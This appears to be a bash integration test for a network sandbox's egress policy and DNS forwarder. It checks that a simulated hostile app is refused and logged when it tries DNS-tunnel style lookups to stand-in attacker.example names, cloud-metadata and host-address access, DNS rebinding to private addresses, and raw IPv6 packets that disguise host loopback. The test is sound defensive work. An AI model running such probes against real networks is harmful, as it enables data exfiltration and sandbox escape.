#!/bin/bash
# The egress policy and DNS against a hostile app, from outside: a host side (hostsim) with
# both families and services of its own, a remote side (the Internet, one veth away) with a
# public and a private address, and a DNS server of this test that logs every question it
# receives, so "this name never reached the upstream resolver" is read from its log.
source "$(dirname "$0")/lib/netuser-common.bash"
LIB="$(cd "$(dirname "$0")/lib" && pwd)"

PRIVATE_ADDR=10.99.0.2
HX ip addr add 10.99.0.1/24 dev hs0
RX ip addr add "$PRIVATE_ADDR/24" dev hs1
mkdir -p "$WORK/private" "$WORK/service" "$WORK/other"
echo hello-from-private >"$WORK/private/index.html"
echo hello-from-host-service >"$WORK/service/index.html"
echo hello-from-port-8003 >"$WORK/other/index.html"
# A host service on every host address of both families (what 0.0.0.0 / :: binds reach).
ip netns exec "$HS" $PY -m http.server 8002 --bind :: --directory "$WORK/service" >/dev/null 2>&1 &
SERVER_PIDS+=($!)
ip netns exec "$RS" $PY -m http.server 8000 --bind "$PRIVATE_ADDR" --directory "$WORK/private" >/dev/null 2>&1 &
SERVER_PIDS+=($!)
ip netns exec "$RS" $PY -m http.server 8003 --bind "$REMOTE_ADDR" --directory "$WORK/other" >/dev/null 2>&1 &
SERVER_PIDS+=($!)
cat >"$WORK/zone" <<EOF
web.example.test A $REMOTE_ADDR
web.example.test AAAA $REMOTE_ADDR6
api.web.example.test A $REMOTE_ADDR
example.test A $REMOTE_ADDR
rebind.example.test A $PRIVATE_ADDR
loop.example.test A 127.0.0.1
self.example.test A $HOST_ADDR
EOF
DNSLOG="$WORK/dns-questions.log"
: >"$DNSLOG"
ip netns exec "$HS" $PY "$LIB/dns-server.py" 127.0.0.1 5354 "$WORK/zone" "$DNSLOG" >/dev/null 2>&1 &
SERVER_PIDS+=($!)
for _ in $(seq 100); do
    HX curl -s -o /dev/null "http://127.0.0.1:8002/" && RX curl -s -o /dev/null "http://$PRIVATE_ADDR:8000/" \
        && RX curl -s -o /dev/null "http://$REMOTE_ADDR:8003/" && HX dig +short +time=1 +tries=1 -p 5354 @127.0.0.1 web.example.test >/dev/null && break
    sleep 0.1
done
: >"$DNSLOG"
D=(--dns 127.0.0.1:5354)
# One line per fetch: the body, then the curl status ("hello-from-host rc=0", " rc=7").
get() { echo "r=\$(curl -s --max-time 5 $1); echo \"\$r rc=\$?\""; }
asked() { grep -c "^$1 " "$DNSLOG" || true; }

# 1. `all` is both families; an IPv4-only fence warns and names the open family.
out=$(SB --allow "$REMOTE_ADDR/32:8000" --deny 0.0.0.0/0 -- sh -c "$(get "http://[$REMOTE_ADDR6]:8000/")" 2>&1)
expect_match "--deny 0.0.0.0/0 warns that IPv6 stays open" "warning: .*leaves IPv6 open.*--deny all" "$out"
expect_match "... and IPv6 is indeed open under it (the old leak, now warned about)" "hello-from-host rc=0" "$out"
out=$(SB --allow "$REMOTE_ADDR/32:8000" --deny all --log-connections "$WORK/all.jsonl" -- sh -c \
    "$(get "http://[$REMOTE_ADDR6]:8000/"); $(get "http://$REMOTE_ADDR:8000/")" 2>&1)
expect_match "--deny all: IPv6 refused" " rc=7" "$out"
expect_match "--deny all: the allowed IPv4 destination still works" "hello-from-host rc=0" "$out"
expect_eq "--deny all: no IPv6 warning" "0" "$(grep -c "leaves IPv6 open" <<<"$out")"
expect_match "--deny all: the IPv6 refusal is logged with the rule" "\"verdict\":\"deny\",\"reason\":\"policy rule 2: --deny all\"" \
    "$(grep -F "$REMOTE_ADDR6" "$WORK/all.jsonl")"

# 2. Every AF_INET6 host socket is IPV6_V6ONLY (seen by strace on the launcher, whose threads
# make the host sockets), and the IPv6 fetch is what made one.
out=$(ip netns exec "$HS" strace -f -qq -e trace=setsockopt -o "$WORK/strace.out" "$SANDBOX" run -- \
    sh -c "$(get "http://[$REMOTE_ADDR6]:8000/")" 2>&1)
expect_match "IPv6 fetch under strace" "hello-from-host rc=0" "$out"
expect_match "the gateway's IPv6 host socket is IPV6_V6ONLY" "setsockopt\([0-9]+, SOL_IPV6, IPV6_V6ONLY, \[1\]" "$(cat "$WORK/strace.out")"

# 3. Metadata and the host's own addresses are closed by default; their flag or an explicit
# --allow opens them. Unconfined (--allow-host-loopback) shows the service is really there.
out=$(SB --allow-link-local --log-connections "$WORK/protected.jsonl" -- sh -c \
    "$(get http://169.254.169.254/); $(get "http://$HOST_ADDR:8002/"); $(get "http://[$HOST_ADDR6]:8002/")" 2>&1)
expect_eq "metadata (even with --allow-link-local), host IPv4 and IPv6 addresses refused" "rc=7 rc=7 rc=7" "$(grep -o 'rc=[0-9]*' <<<"$out" | tr '\n' ' ' | sed 's/ $//')"
log=$(cat "$WORK/protected.jsonl")
expect_match "metadata refusal logged" "169\.254\.169\.254:80\",\"verdict\":\"deny\",\"reason\":\"metadata-service\"" "$log"
expect_match "host address refusal logged" "$HOST_ADDR:8002\",\"verdict\":\"deny\",\"reason\":\"host-address\"" "$log"
expect_match "host IPv6 address refusal logged" "$HOST_ADDR6\]:8002\",\"verdict\":\"deny\",\"reason\":\"host-address\"" "$log"
expect_match "--allow-host-loopback opens the host's addresses" "hello-from-host-service rc=0" \
    "$(SB --allow-host-loopback -- sh -c "$(get "http://$HOST_ADDR:8002/")" 2>&1)"
expect_match "an explicit --allow opens one host address" "hello-from-host-service rc=0" \
    "$(SB --allow "[$HOST_ADDR6/128]:8002" -- sh -c "$(get "http://[$HOST_ADDR6]:8002/")" 2>&1)"
expect_match "--allow all is not explicit" " rc=7" "$(SB --allow all -- sh -c "$(get "http://$HOST_ADDR:8002/")" 2>&1)"

# 4. DNS under a restrictive policy: only names the allow-list can use go upstream; the rest
# are REFUSED here (UDP and TCP), and every query is a line of the connection log.
: >"$DNSLOG"
out=$(SB "${D[@]}" --allow-domain web.example.test --deny all --log-connections "$WORK/dns.jsonl" -- sh -c '
    dig +time=3 +tries=1 @10.0.2.3 x7f3a9c.attacker.example A | grep -o "status: [A-Z]*"
    dig +tcp +time=3 +tries=1 @10.0.2.3 tcp-tunnel.attacker.example A | grep -o "status: [A-Z]*"
    dig +short +time=3 +tries=1 @10.0.2.3 web.example.test A' 2>&1)
expect_match "a name no rule covers is REFUSED" "^status: REFUSED" "$out"
expect_eq "... over TCP too" "2" "$(grep -c 'status: REFUSED' <<<"$out")"
expect_match "an allowed name is answered" "$REMOTE_ADDR" "$out"
expect_eq "the refused names never reached the upstream resolver" "0" "$(grep -c attacker "$DNSLOG" || true)"
expect_eq "the allowed name did" "1" "$(asked web.example.test)"
dnslog=$(grep '"protocol":"dns"' "$WORK/dns.jsonl")
expect_match "refused query logged" "\"name\":\"x7f3a9c.attacker.example\",\"type\":\"A\",\"verdict\":\"deny\",\"outcome\":\"refused\"" "$dnslog"
expect_match "TCP query logged" "\"transport\":\"tcp\".*tcp-tunnel.attacker.example" "$dnslog"
expect_match "forwarded query logged with its answer" "\"name\":\"web.example.test\",\"type\":\"A\",\"verdict\":\"allow\",\"outcome\":\"forwarded\",\"answers\":\\[\"$REMOTE_ADDR\"\\]" "$dnslog"
: >"$DNSLOG"
SB "${D[@]}" -- dig +short +time=3 +tries=1 @10.0.2.3 anything.attacker.example A >/dev/null 2>&1
expect_eq "an open policy forwards every name (the contrast)" "1" "$(asked anything.attacker.example)"

# Rebinding: an allowed name that answers a private, loopback or host address is not admitted.
out=$(SB "${D[@]}" --allow-domain rebind.example.test --allow-domain loop.example.test --allow-domain self.example.test \
    --deny all --log-connections "$WORK/rebind.jsonl" -- sh -c \
    "$(get http://rebind.example.test:8000/); $(get http://self.example.test:8002/)" 2>&1)
expect_eq "rebinding to a private and a host address refused" "rc=7 rc=7" "$(grep -o 'rc=[0-9]*' <<<"$out" | tr '\n' ' ' | sed 's/ $//')"
expect_match "the private answer is logged as not admitted" "rebind.example.test\",\"type\":\"A\".*\"not_admitted\":\\[\"$PRIVATE_ADDR\"\\]" "$(cat "$WORK/rebind.jsonl")"
expect_match "without the fence the private server is there (the contrast)" "hello-from-private rc=0" \
    "$(SB "${D[@]}" -- sh -c "$(get http://rebind.example.test:8000/)" 2>&1)"
expect_match "an --allow for the private range admits the answer" "hello-from-private rc=0" \
    "$(SB "${D[@]}" --allow-domain rebind.example.test --allow "10.99.0.0/16:8000" --deny all -- sh -c "$(get http://rebind.example.test:8000/)" 2>&1)"

# 5. --allow-domain NAME:PORTS: the learned address on those ports only; wildcards below the
# apex; malformed patterns exit 125.
out=$(SB "${D[@]}" --allow-domain web.example.test:8000 --deny all -- sh -c \
    "$(get http://web.example.test:8000/); $(get http://web.example.test:8003/)" 2>&1)
expect_match "the rule's port works" "hello-from-host rc=0" "$out"
expect_match "another port of the same address does not" " rc=7" "$out"
: >"$DNSLOG"
out=$(SB "${D[@]}" --allow-domain '*.example.test' --deny all -- sh -c \
    "$(get http://web.example.test:8000/); $(get http://api.web.example.test:8003/); dig +time=3 +tries=1 @10.0.2.3 example.test A | grep -o 'status: [A-Z]*'" 2>&1)
expect_match "*.example.test matches a name below it" "hello-from-host rc=0" "$out"
expect_match "... and two labels below" "hello-from-port-8003 rc=0" "$out"
expect_match "... but not the apex" "status: REFUSED" "$out"
expect_eq "the apex never reached the upstream resolver" "0" "$(asked example.test)"
for pattern in 'foo.*.test' '*' 'exa$mple.test' 'web.example.test:0'; do
    out=$(SB --allow-domain "$pattern" --deny all -- true 2>&1); rc=$?
    expect_eq "malformed --allow-domain $pattern exits 125" 125 $rc
    expect_match "... and says why" "allow-domain" "$out"
done

# 6. The sandbox's own names are answered by the forwarder, never forwarded; /etc/hosts has both families.
: >"$DNSLOG"
out=$(SB "${D[@]}" --hostname box -- sh -c '
    dig +short +time=3 +tries=1 @10.0.2.3 box A; dig +short +time=3 +tries=1 @10.0.2.3 box AAAA
    dig +short +time=3 +tries=1 @10.0.2.3 host.sandbox.internal A; dig +short +time=3 +tries=1 @10.0.2.3 host.sandbox.internal AAAA
    dig +time=3 +tries=1 @10.0.2.3 nothing.sandbox.internal A | grep -o "status: [A-Z]*"; cat /etc/hosts' 2>&1)
expect_match "hostname A" "^10\.0\.2\.100" "$out"
expect_match "hostname AAAA" "fd00::100" "$out"
expect_match "host.sandbox.internal A and AAAA" "10\.0\.2\.2.fd00::2" "$(tr '\n' ' ' <<<"$out")"
expect_match "other names of the zone are NXDOMAIN" "status: NXDOMAIN" "$out"
expect_eq "none of them reached the upstream resolver" "0" "$(grep -cE '^(box|host\.sandbox\.internal|nothing\.sandbox\.internal) ' "$DNSLOG" || true)"
expect_match "/etc/hosts names the IPv6 address" "fd00::100 box" "$out"
expect_match "/etc/hosts names the gateway" "10\.0\.2\.2 host\.sandbox\.internal" "$out"
expect_match "host.sandbox.internal reaches host loopback with the flag" "hello-from-loopback rc=0" \
    "$(SB "${D[@]}" --allow-host-loopback -- sh -c "$(get http://host.sandbox.internal:8001/)" 2>&1)"

# 7. Raw IPv6 frames from the app's namespace (standalone usernet: the test may send anything)
# at IPv4-in-IPv6 forms of host loopback, and routing headers.
usernet_target 120
IN() { nsenter -t "$target" -n "$@"; }
raw_run() {  # raw_run LABEL [usernet flags...] -- then reads the raw attempts from RAW_ATTEMPTS
    ip netns exec "$HS" "$SANDBOX" usernet --netns "$target" "$@" --log-connections "$WORK/raw.jsonl" >/dev/null 2>&1 &
    local gateway=$!
    for _ in $(seq 100); do IN ip -6 route show default 2>/dev/null | grep -q fd00::2 && break; sleep 0.1; done
    IN ping -6 -c 1 -W 2 fd00::2 >/dev/null 2>&1
    RAW_OUT=""
    local attempt
    for attempt in "${RAW_ATTEMPTS[@]}"; do
        RAW_OUT+="$(IN $PY "$LIB/raw6-syn.py" $attempt) "
    done
    kill -TERM "$gateway"; wait "$gateway"
}
RAW_ATTEMPTS=("::ffff:127.0.0.1 8001" "64:ff9b::7f00:1 8001" "::127.0.0.1 8001" "::ffff:$HOST_ADDR 8002" "$REMOTE_ADDR6 8000")
raw_run
expect_eq "raw SYNs to mapped, NAT64 and compatible loopback and a mapped host address are reset; a real one answered" \
    "rst rst rst rst synack " "$RAW_OUT"
log=$(cat "$WORK/raw.jsonl")
expect_match "the mapped loopback attempt was judged as 127.0.0.1" "::ffff:127.0.0.1\]:8001\",\"verdict\":\"deny\",\"reason\":\"host-loopback-disabled\"" "$log"
RAW_ATTEMPTS=("::ffff:127.0.0.1 8001")
raw_run --allow-host-loopback
expect_eq "with --allow-host-loopback the mapped address reaches host loopback as IPv4 (the contrast)" "synack " "$RAW_OUT"
RAW_ATTEMPTS=("$REMOTE_ADDR6 8000 $REMOTE_ADDR6 0" "$REMOTE_ADDR6 8000 $REMOTE_ADDR6 1")
raw_run --deny "[$REMOTE_ADDR6/128]:8000"
expect_eq "routing headers do not change the verdict (segments left 0: judged by the destination; >0: dropped)" \
    "rst none " "$RAW_OUT"
# expect_line DESCRIPTION REGEX TEXT: some line of TEXT matches REGEX (grep -E).
expect_line() { if grep -qE -- "$2" <<<"$3"; then ok; else bad "$1: no line of [$3] matches /$2/"; fi; }
# The tool's own messages: a refused flow is a warning on stderr naming the flow and the rule
# (from the gateway's own process); --log-level error silences it; json is one object a line;
# debug shows the launcher's set-up steps.
out=$(SB --deny "$REMOTE_ADDR/32" -- sh -c "curl -s --max-time 5 http://$REMOTE_ADDR:8000/ >/dev/null; echo app-done" 2>&1)
expect_line "a refusal is warned about" "^sandbox: warning: gateway: refused tcp 10\.0\.2\.100:[0-9]+ -> $REMOTE_ADDR:8000 reason=policy rule 1: --deny $REMOTE_ADDR/32$" "$out"
expect_eq "--log-level error: only the app's output" "app-done" \
    "$(SB --log-level error --deny "$REMOTE_ADDR/32" -- sh -c "curl -s --max-time 5 http://$REMOTE_ADDR:8000/ >/dev/null; echo app-done" 2>&1)"
json=$(SB --log-format json --deny "$REMOTE_ADDR/32" -- curl -s --max-time 5 "http://$REMOTE_ADDR:8000/" 2>&1 >/dev/null)
expect_eq "--log-format json: the refusal as an object" "warning gateway policy rule 1: --deny $REMOTE_ADDR/32" \
    "$(python3 -c 'import json,sys; o=json.loads(sys.argv[1].splitlines()[0]); print(o["level"], o["component"], o["reason"])' "$json" 2>&1)"
debug=$(SB --log-level debug -- true 2>&1)
for step in "set-up planned" "init cloned" "gateway started" "program started" "sandbox ended status=0"; do
    expect_line "--log-level debug: $step" "^sandbox: debug: $step" "$debug"
done
# DNS: an upstream that never answers is a warning with the name asked.
out=$(SB --dns 127.0.0.1:5999 -- sh -c 'getent hosts quiet.example.test; true' 2>&1)
expect_match "an unanswered DNS query is warned about" "sandbox: warning: gateway: DNS query unanswered: no upstream resolver answered in time name=quiet\.example\.test" "$out"
check_no_leftovers "policy runs"
finish
